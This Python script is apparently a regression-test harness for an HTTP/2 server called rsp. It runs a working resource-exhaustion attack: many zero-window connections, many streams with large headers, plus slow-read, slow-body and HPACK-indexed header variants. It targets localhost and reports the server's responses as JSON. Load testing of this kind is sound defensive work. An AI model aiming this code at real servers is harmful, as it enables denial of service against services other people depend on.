#!/usr/bin/env python3
"""The shared-budget attack of issue 22 (point 3), for tests/shared_budgets.rs:
many h2c connections that announce a zero window
(SETTINGS_INITIAL_WINDOW_SIZE=0), each opening many streams that carry
one big header, then never opening a window: every answer stalls after
its HEADERS, holding whatever rsp keeps per stream.

    python3 budget.py [--port 18080] [--conns 100] [--streams 100]
        [--header-bytes 31744] [--path /big] [--hold 70] [--window 0]
        [--body-bytes 0 --body-rate 0] [--slow-read S] [--indexed K]

The client reads everything rsp sends (so rsp's output bound never stops
reading it) and prints one JSON summary: the statuses rsp answered on the
attack streams, RST_STREAM codes, GOAWAYs, when the last stream went out.
--body-bytes N sends a request body of N bytes per stream (content-length)
at --body-rate B bytes a second per stream; --slow-read S opens each
stream's window by one byte every S seconds; --indexed K sends K copies of
the big header HPACK-indexed (a few bytes on the wire per stream).
"""
import argparse, json, selectors, socket, struct, sys, time
import hpack

p = argparse.ArgumentParser()
p.add_argument("--port", type=int, default=18080)
p.add_argument("--conns", type=int, default=100)
p.add_argument("--streams", type=int, default=100)
p.add_argument("--header-bytes", type=int, default=31 * 1024)
p.add_argument("--path", default="/big")
p.add_argument("--hold", type=float, default=70)
p.add_argument("--window", type=int, default=0)
p.add_argument("--body-bytes", type=int, default=0)
p.add_argument("--body-rate", type=float, default=0)
p.add_argument("--indexed", type=int, default=0,
               help="K copies of x-big (value <= 4000 bytes), HPACK-indexed after the first stream: "
                    "a few bytes on the wire per stream")
p.add_argument("--slow-read", type=float, default=0,
               help="every this many seconds, open each stream's window by 1 byte")
p.add_argument("--ramp", type=float, default=0, help="seconds over which the connections are opened")
a = p.parse_args()

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WU, CONT = 0, 1, 3, 4, 6, 7, 8, 9

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

_blocks = {}
def header_block(enc, stream, headers, end_stream, block=None):
    # Literals never indexed: the block leaves the HPACK table alone, so
    # one encoding serves every stream of every connection.
    if block is None:
        key = tuple(headers)
        if key not in _blocks:
            _blocks[key] = hpack.Encoder().encode(
                [hpack.NeverIndexedHeaderTuple(n, v) for n, v in headers], huffman=True)
        block = _blocks[key]
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
    out = b""
    for i, c in enumerate(chunks):
        kind = HEADERS if i == 0 else CONT
        flags = (0x1 if (i == 0 and end_stream) else 0) | (0x4 if i == len(chunks) - 1 else 0)
        out += frame(kind, flags, stream, c)
    return out

def indexed_block(enc, stream, headers, end_stream):
    """The connection's own encoder, indexing allowed: the first stream
    puts x-big in the dynamic table, later ones name it by index."""
    headers = [hpack.NeverIndexedHeaderTuple(n, v) if n != "x-big" else (n, v) for n, v in headers]
    block = enc.encode(headers, huffman=True)
    return frame(HEADERS, (0x1 if end_stream else 0) | 0x4, stream, block) if len(block) <= 16384 \
        else header_block(None, stream, None, end_stream, block)

big = "x" * a.header_bytes
t0 = time.monotonic()
sel = selectors.DefaultSelector()
stats = {"statuses": {}, "rst": {}, "goaway": [], "data_bytes": 0, "closed": 0,
         "first_500_s": None, "connect_errors": 0, "bytes_sent": 0}
dec_errors = 0

class C:
    def __init__(self, i):
        self.i = i
        self.s = socket.create_connection(("127.0.0.1", a.port))
        self.s.setblocking(False)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.inb = b""
        self.open = True
        out = [PREFACE, frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, a.window))]
        self.streams = []
        for k in range(a.streams):
            sid = 1 + 2 * k
            hs = [(":method", "POST" if a.body_bytes else "GET"), (":scheme", "http"),
                  (":authority", "test"), (":path", a.path), ("x-big", big)]
            if a.body_bytes:
                hs.append(("content-length", str(a.body_bytes)))
            if a.indexed:
                hs = hs[:4] + [("x-big", big)] * a.indexed + hs[5:]
                out.append(indexed_block(self.enc, sid, hs, end_stream=not a.body_bytes))
            else:
                out.append(header_block(self.enc, sid, hs, end_stream=not a.body_bytes))
            self.streams.append(sid)
        self.out = b"".join(out)
        self.sent_body = {sid: 0 for sid in self.streams}
        sel.register(self.s, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def write(self):
        while self.out:
            try:
                n = self.s.send(self.out[:1 << 20])
            except BlockingIOError:
                return
            except OSError:
                self.gone(); return
            self.out = self.out[n:]
            stats["bytes_sent"] += n
        sel.modify(self.s, selectors.EVENT_READ, self)

    def queue(self, b):
        if not self.open:
            return
        was = bool(self.out)
        self.out += b
        if not was:
            sel.modify(self.s, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def gone(self):
        if self.open:
            self.open = False
            stats["closed"] += 1
            sel.unregister(self.s)
            self.s.close()

    def read(self):
        global dec_errors
        try:
            data = self.s.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError:
            self.gone(); return
        if not data:
            self.gone(); return
        self.inb += data
        while len(self.inb) >= 9:
            length = int.from_bytes(self.inb[:3], "big")
            if len(self.inb) < 9 + length:
                break
            kind, flags = self.inb[3], self.inb[4]
            sid = int.from_bytes(self.inb[5:9], "big") & 0x7FFFFFFF
            payload = self.inb[9:9 + length]
            self.inb = self.inb[9 + length:]
            if kind == SETTINGS and not flags & 1:
                self.queue(frame(SETTINGS, 1, 0))
            elif kind == PING and not flags & 1:
                self.queue(frame(PING, 1, 0, payload))
            elif kind == HEADERS:
                try:
                    fields = self.dec.decode(payload)  # rsp never sends CONTINUATION for small heads
                    st = dict(fields).get(":status")
                    if st is not None:
                        stats["statuses"][st] = stats["statuses"].get(st, 0) + 1
                        if st == "500" and stats["first_500_s"] is None:
                            stats["first_500_s"] = round(time.monotonic() - t0, 2)
                except Exception:
                    dec_errors += 1
            elif kind == DATA:
                stats["data_bytes"] += length
            elif kind == RST:
                code = int.from_bytes(payload[:4], "big")
                stats["rst"][code] = stats["rst"].get(code, 0) + 1
            elif kind == GOAWAY:
                stats["goaway"].append(int.from_bytes(payload[4:8], "big"))

conns = []
def open_one(i):
    try:
        conns.append(C(i))
    except OSError:
        stats["connect_errors"] += 1
to_open = list(range(a.conns))
if not a.ramp:
    for i in to_open:
        open_one(i)
    to_open = []
last_sent = None
next_body = time.monotonic() + 1
next_read = time.monotonic() + (a.slow_read or 0)
deadline = time.monotonic() + a.hold
last_print = time.monotonic()
while time.monotonic() < deadline and (to_open or any(c.open for c in conns)):
    while to_open and time.monotonic() - t0 >= a.ramp * to_open[0] / a.conns:
        open_one(to_open.pop(0))
    for key, ev in sel.select(0.01 if to_open else 0.2):
        c = key.data
        if ev & selectors.EVENT_READ:
            c.read()
        if ev & selectors.EVENT_WRITE and c.open:
            c.write()
    if last_sent is None and not to_open and all(not c.out for c in conns if c.open):
        last_sent = round(time.monotonic() - t0, 2)
    now = time.monotonic()
    if a.body_bytes and a.body_rate and now >= next_body:
        next_body = now + 1
        for c in conns:
            for sid in c.streams:
                left = a.body_bytes - c.sent_body[sid]
                n = int(min(left, a.body_rate))
                if n > 0:
                    c.sent_body[sid] += n
                    c.queue(frame(DATA, 1 if n == left else 0, sid, b"y" * n))
    if a.slow_read and now >= next_read:
        next_read = now + a.slow_read
        for c in conns:
            c.queue(b"".join(frame(WU, 0, sid, struct.pack(">I", 1)) for sid in c.streams))
    if now - last_print >= 1:
        last_print = now
        print(f"attack t={now - t0:.1f}s open={sum(c.open for c in conns)} statuses={stats['statuses']} rst={stats['rst']}", file=sys.stderr, flush=True)
stats["all_sent_s"] = last_sent
stats["decode_errors"] = dec_errors
stats["elapsed_s"] = round(time.monotonic() - t0, 2)
for c in conns:
    c.gone()
print(json.dumps(stats))
